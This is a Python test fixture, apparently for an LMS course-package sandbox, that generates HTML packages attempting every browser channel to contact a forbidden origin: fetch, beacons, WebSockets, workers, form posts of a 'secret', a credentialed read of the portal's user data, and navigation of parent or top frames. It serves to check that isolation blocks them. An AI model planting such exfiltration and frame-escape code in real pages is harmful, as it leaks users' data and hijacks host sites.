"""A package that tries everything to reach somebody: each way is tried once, none may arrive."""

from tests.training.packages.files import package

PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Talks</title>
<link rel="stylesheet" href="{out}/link.css">
<link rel="prefetch" href="{out}/prefetch">
<link rel="preload" as="image" href="{out}/preload">
<link rel="modulepreload" href="{out}/modulepreload.js">
<link rel="manifest" href="{out}/manifest.json">
<link rel="icon" href="{out}/icon.png">
<style>@import url("{out}/import.css"); @font-face {{ font-family: X; src: url("{out}/font.woff2"); }}
body {{ font-family: X; background: url("{out}/background.png"); }}</style>
<script src="{out}/script.js"></script>
</head><body><h1>Talks</h1>
<img src="{out}/img.png" alt=""><video src="{out}/film.mp4" autoplay muted></video>
<audio src="{out}/tone.mp3" autoplay></audio><embed src="{out}/embed"><object data="{out}/object"></object>
<iframe src="{out}/frame"></iframe><iframe srcdoc="<img src='{out}/srcdoc.png'>"></iframe>
<form id="form" action="{out}/form" method="post"><input name="secret" value="1"></form>
<form id="get" action="{out}/get" target="_blank"></form>
<a id="ping" href="#x" ping="{out}/ping">x</a><a id="top" target="_top" href="{out}/top">x</a>
<a id="load" download href="{out}/download">x</a>
<svg><image href="{out}/svg.png"/><use href="{out}/use.svg#x"/></svg>
<script>
const out = "{out}", portal = "{portal}", tried = [];
const attempt = (name, act) => {{
  tried.push(name);
  try {{ Promise.resolve(act()).then(() => {{}}, () => {{}}); }} catch (error) {{ /* refused */ }}
}};
const find = (w) => {{ for (let n = 0; n < 9; n += 1, w = w.parent) {{ if (w.API) return w.API; }} }};
const api = find(window);
api.LMSInitialize("");
attempt("fetch", () => fetch(out + "/fetch"));
attempt("no-cors", () => fetch(out + "/no-cors", {{ mode: "no-cors", method: "POST", body: "secret" }}));
attempt("portal", () => fetch(portal + "/my/data/", {{ credentials: "include" }}).then((a) => a.text()).then(
  (text) => {{ document.title = "reached the portal: " + text.length; }}));
attempt("xhr", () => {{ const x = new XMLHttpRequest(); x.open("GET", out + "/xhr"); x.send(); }});
attempt("beacon", () => navigator.sendBeacon(out + "/beacon", "secret"));
attempt("socket", () => new WebSocket(out.replace("http", "ws") + "/socket"));
attempt("events", () => new EventSource(out + "/events"));
attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "/worker')"]))));
attempt("import", () => import(out + "/import.js"));
attempt("service worker", () => navigator.serviceWorker.register("sw.js"));
attempt("image", () => {{ new Image().src = out + "/image?secret"; }});
attempt("popup", () => window.open(out + "/popup"));
attempt("get", () => document.getElementById("get").submit());
attempt("ping", () => document.getElementById("ping").click());
attempt("top link", () => document.getElementById("top").click());
attempt("top", () => {{ window.top.location = out + "/top"; }});
attempt("wrapper's document", () => {{
  const image = window.parent.document.createElement("img");
  image.src = out + "/wrapper.png";
  window.parent.document.body.append(image);
}});
attempt("wrapper's fetch", () => window.parent.fetch(out + "/wrapper"));
attempt("blank frame", () => {{
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.contentWindow.fetch(out + "/blank");
}});
attempt("blob page", () => {{
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.src = URL.createObjectURL(new Blob(["<img src='" + out + "/blob.png'>"], {{ type: "text/html" }}));
}});
attempt("data page", () => {{
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.src = "data:text/html,<img src='" + out + "/data.png'>";
}});
setTimeout(() => {{
  api.LMSSetValue("cmi.suspend_data", "tried " + tried.length);
  api.LMSCommit("");
}}, 1500);
setTimeout(() => {{
  attempt("form", () => document.getElementById("form").submit());
  attempt("download", () => document.getElementById("load").click());
  attempt("wrapper", () => {{ window.parent.location = out + "/parent"; }});
  attempt("portal frame", () => {{ window.top.frames[0].location = out + "/frames"; }});
  attempt("meta", () => {{
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = "0;url=" + out + "/meta";
    document.head.append(meta);
  }});
  attempt("away", () => {{ window.location = out + "/away"; }});
}}, 3000);
</script></body></html>
"""


LEAVING = {
    "by script": '<script>location = "{out}/away"</script>',
    "by header": '<meta http-equiv="refresh" content="0;url={out}/meta">',
    "by download": '<a id="a" download href="{out}/x">x</a>'
    '<script>document.getElementById("a").click()</script>',
    "by form": '<form id="a" action="{out}/x" method="post"></form>'
    '<script>document.getElementById("a").submit()</script>',
    "around it": '<script>parent.location = "{out}/x"</script>',
    "all of it": '<script>top.location = "{out}/x"</script>',
}


def leaving(way: str, out: str) -> bytes:
    """Leads its own frame, or one around it, to `out`."""
    return package({"index.html": f"<!doctype html><h1>x</h1>{LEAVING[way].format(out=out)}"})


def talkative(out: str, portal: str) -> bytes:
    """Talks to `out`, an origin that nobody allowed, and to the portal."""
    page = PAGE.format(out=out, portal=portal)
    return package({"index.html": page, "sw.js": f"fetch('{out}/service-worker')"})
